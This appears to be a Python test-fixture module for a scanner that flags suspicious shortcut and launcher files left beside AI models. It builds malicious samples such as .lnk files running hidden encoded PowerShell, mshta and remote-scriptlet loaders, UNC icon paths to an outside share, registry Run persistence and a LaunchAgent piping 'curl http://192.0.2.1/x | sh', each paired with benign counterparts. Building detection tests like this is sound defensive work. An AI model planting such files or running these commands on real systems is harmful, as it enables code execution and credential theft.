"""Shortcuts and settings of file managers: what attacks make of them, and those that people leave beside a model."""

from __future__ import annotations

import plistlib
import struct

from modelsweep.core.report import Verdict
from tests.scanners.case import Case

PIPE = "curl http://192.0.2.1/x | sh"
ICON = "\\\\192.0.2.1\\share\\icon.ico"
ENCODED = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"
MAGIC = bytes.fromhex("4c0000000114020000000000c000000000000046")


def counted(text: str) -> bytes:
    """Return a text of a link."""
    return struct.pack("<H", len(text)) + text.encode("utf-16-le")


def link(
    target: str = "", arguments: str = "", *, icon: str = "", ids: bytes = b"", info: bytes = b"", blocks: bytes = b""
) -> bytes:
    """Return a shell link (MS-SHLLINK, section 2)."""
    flags, body = 0x80, b""
    if ids:
        flags, body = flags | 1, body + struct.pack("<H", len(ids) + 2) + ids + bytes(2)
    if info:
        flags, body = flags | 2, body + info
    for flag, text in ((0x08, target), (0x20, arguments), (0x40, icon)):
        if text:
            flags, body = flags | flag, body + counted(text)
    header = MAGIC + struct.pack("<2I", flags, 0x20) + bytes(24) + struct.pack("<3I2H2I", 0, 0, 7, 0, 0, 0, 0)
    return header + body + blocks + bytes(4)


def environment(path: str) -> bytes:
    """Return the block that names the target by variables of the environment."""
    return (
        struct.pack("<2I", 788, 0xA0000001)
        + path.encode().ljust(260, b"\0")
        + path.encode("utf-16-le").ljust(520, b"\0")
    )


def ids(*names: str) -> bytes:
    """Return item identifiers that lead from the drive to a file."""
    items = [b"\x1f\x50" + bytes(16), b"\x2f" + b"C:\\" + bytes(19)]
    items += [b"\x32\0" + bytes(10) + name.encode() + bytes(2) for name in names]
    return b"".join(struct.pack("<H", len(item) + 2) + item for item in items)


def share(name: str) -> bytes:
    """Return the information of a link that leads to a share."""
    network = struct.pack("<5I", 20 + len(name) + 1, 2, 20, 0, 0x20000) + name.encode() + b"\0"
    return struct.pack("<7I", 28 + len(network) + 1, 28, 2, 0, 0, 28, 28 + len(network)) + network + b"\0"


def plist(**values: object) -> bytes:
    """Return a property list as XML."""
    return plistlib.dumps(values).rstrip()


def binary(**values: object) -> bytes:
    """Return a property list in binary."""
    return plistlib.dumps(values, fmt=plistlib.FMT_BINARY)


def registry(key: str, value: str) -> bytes:
    """Return a registry file."""
    return f"Windows Registry Editor Version 5.00\r\n\r\n[{key}]\r\n{value}\r\n".encode("utf-16")


def url(*lines: str) -> str:
    """Return an internet shortcut."""
    return "\r\n".join(("[InternetShortcut]", *lines, ""))


SOFTWARE = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows"
AGENT = {"Label": "org.acme.serve", "RunAtLoad": True}
ODD = {
    "link_to_powershell": (
        "README.lnk",
        link("..\\..\\Windows\\System32\\powershell.exe", f"-w hidden -enc {ENCODED}"),
    ),
    "link_to_shell": ("a.lnk", link("..\\cmd.exe", "/c calc.exe", icon="%SystemRoot%\\System32\\shell32.dll")),
    "link_by_environment": ("a.lnk", link(arguments="/c start model.bin", blocks=environment("%ComSpec%"))),
    "link_by_ids": ("a.lnk", link(arguments="model.bin,Start", ids=ids("Windows", "System32", "rundll32.exe"))),
    "link_to_page": ("a.lnk", link("..\\mshta.exe", "http://192.0.2.1/a.hta")),
    "link_to_share": ("a.lnk", link(info=share("\\\\192.0.2.1\\share"))),
    "link_with_icon": ("a.lnk", link("run.bat", icon=ICON)),
    "link_padded": ("a.lnk", link("..\\explorer.exe", " " * 300 + "http://192.0.2.1/x")),
    "link_without_its_name": ("model.dat", link("..\\cmd.exe", "/c calc.exe")),
    "url_to_share": ("a.url", url("URL=file://192.0.2.1/share/a.exe").encode()),
    "url_to_program": ("a.url", url("URL=file:///C:/Windows/System32/cmd.exe").encode()),
    "url_with_icon": ("a.url", url("URL=https://example.com/", f"IconFile={ICON}").encode()),
    "url_with_folder": ("a.url", url("URL=https://example.com/", "WorkingDirectory=\\\\192.0.2.1@80\\dav").encode()),
    "command_file": ("a.scf", f"[Shell]\r\nCommand=2\r\nIconFile={ICON}\r\n".encode()),
    "folder": ("desktop.ini", f"[.ShellClassInfo]\r\nIconResource={ICON},0\r\n".encode()),
    "autorun": ("autorun.inf", b"[autorun]\r\nopen=setup.exe\r\n"),
    "setup": (
        "a.inf",
        b"[DefaultInstall]\r\nUnRegisterOCXs=U\r\n[U]\r\n%11%\\scrobj.dll,NI,http://192.0.2.1/a.sct\r\n",
    ),
    "library": (
        "a.library-ms",
        b"<libraryDescription><simpleLocation><url>\\\\192.0.2.1\\s</url></simpleLocation></libraryDescription>",
    ),
    "setting": (
        "a.settingcontent-ms",
        b"<PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink></PCSettings>",
    ),
    "task": (
        "task.xml",
        '<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Exec><Command>powershell.exe</Command>'
        f"<Arguments>-w hidden -enc {ENCODED}</Arguments></Exec></Task>".encode("utf-16"),
    ),
    "task_of_two": (
        "task.xml",
        (
            b'<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec>'
            b"<Command>notepad.exe</Command></Exec><Exec><Arguments><![CDATA[http://192.0.2.1/a.hta]]></Arguments>"
            b"<Command>&#x6d;shta<!-- -->.exe</Command></Exec></Actions></Task>"
        ),
    ),
    "terminal_in_numbers": (
        "a.terminal",
        plist(CommandString=PIPE, name="x").replace(b"curl", b"&#99;u<![CDATA[rl]]>"),
    ),
    "registry_run": ("a.reg", registry(f"{SOFTWARE}\\CurrentVersion\\Run", '"u"="C:\\\\u.exe"')),
    "registry_command": ("a.reg", registry("HKEY_CLASSES_ROOT\\ms-settings\\shell\\open\\command", '@="calc.exe"')),
    "page": (
        "a.hta",
        b'<script language="VBScript">Set s = CreateObject("WScript.Shell")\ns.Run "calc.exe", 0</script>',
    ),
    "scriptlet": ("a.sct", b'<scriptlet><script>new ActiveXObject("Shell.Application")</script></scriptlet>'),
    "encoded": ("a.vbe", b"#@~^DgAAAA==\\ko$K6,JCV^GJwAUAAA==^#~@\r\n"),
    "terminal": ("a.terminal", plist(CommandString=PIPE, name="x")),
    "location": ("a.webloc", plist(URL="file:///System/Applications/Utilities/Terminal.app")),
    "location_in_binary": ("a.webloc", binary(URL="file://192.0.2.1/x.app")),
    "agent": ("org.acme.plist", plist(**AGENT, ProgramArguments=["/bin/sh", "-c", PIPE])),
    "agent_stray": ("org.acme.plist", binary(**AGENT, ProgramArguments=["/tmp/.y"])),
}
HONEST = {
    "link": ("run.lnk", link("run.bat", icon="C:\\webui\\icon.ico")),
    "link_to_python": ("run.lnk", link("venv\\Scripts\\pythonw.exe", "launch.py --xformers", ids=ids("webui"))),
    "link_to_prompt": ("run.lnk", link("..\\cmd.exe", '"/K" C:\\conda\\Scripts\\activate.bat C:\\conda')),
    "link_to_script": ("run.lnk", link("..\\powershell.exe", "-NoExit -ExecutionPolicy Bypass -File start.ps1")),
    "link_to_folder": ("models.lnk", link(ids=ids("webui", "models"))),
    "url": (
        "a.url",
        url("IDList=", "URL=https://huggingface.co/acme/m", "IconFile=C:\\x\\icon.ico", "IconIndex=0").encode(),
    ),
    "url_here": ("a.url", url("URL=http://127.0.0.1:7860/").encode()),
    "folder": (
        "desktop.ini",
        b"[.ShellClassInfo]\r\nIconResource=C:\\WINDOWS\\System32\\SHELL32.dll,4\r\n[ViewState]\r\nMode=\r\n",
    ),
    "registry": (
        "a.reg",
        registry("HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\FileSystem", '"LongPathsEnabled"=dword:1'),
    ),
    "registry_menu": (
        "a.reg",
        registry("HKEY_CLASSES_ROOT\\Directory\\Background\\shell\\UI\\command", '@="C:\\\\ui\\\\run.bat"'),
    ),
    "page": ("a.hta", b"<html><body>The model</body></html>"),
    "location": ("a.webloc", plist(URL="https://huggingface.co/acme")),
    "location_in_binary": ("a.webloc", binary(URL="https://huggingface.co/acme/é")),
    "information": (
        "Info.plist",
        binary(CFBundleExecutable="WebUI", LSEnvironment={"A": "b"}, Types=[{"x": [1, 2.5, b"z"]}]),
    ),
    "agent": ("org.acme.plist", plist(**AGENT, ProgramArguments=["/opt/homebrew/bin/ollama", "serve"])),
    "agent_of_script": ("org.acme.plist", plist(**AGENT, ProgramArguments=["/bin/bash", "/Users/m/webui/run.sh"])),
    "profile": ("a.terminal", plist(name="Dark", type="Window Settings")),
    "setup": ("a.inf", b"[Version]\r\nSignature=$WINDOWS NT$\r\nClass=Net\r\n"),
}


def case(name: str, content: bytes, verdict: Verdict) -> Case:
    """Return the case of a file; of a text that is not read as XML, what is shorter is one as well."""
    whole = content.startswith((MAGIC, b"bplist")) or (content[:1] == b"<" and not name.endswith((".hta", ".sct")))
    return Case(lambda: content, name, verdict, cut_is_clean=not whole)


CASES = {
    **{name: case(*odd, Verdict.REVIEW) for name, odd in ODD.items()},
    **{f"benign_{name}": case(*honest, Verdict.CLEAN) for name, honest in HONEST.items()},
    "link_is_cut": case("a.lnk", link("run.bat", "x" * 200)[:-150], Verdict.NOT_SCANNED),
    "link_with_more_behind": Case(
        lambda: link("run.bat") + bytes(range(1, 200)), "a.lnk", Verdict.NOT_SCANNED, cut_is_clean=True
    ),
    "list_with_entities": case(
        "a.webloc",
        b'<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY u "file:///x.app">]><plist><dict><key>URL</key>'
        b"<string>&u;</string></dict></plist>",
        Verdict.NOT_SCANNED,
    ),
    "list_is_cut": case("a.webloc", binary(URL="https://example.com/")[:-20], Verdict.NOT_SCANNED),
}
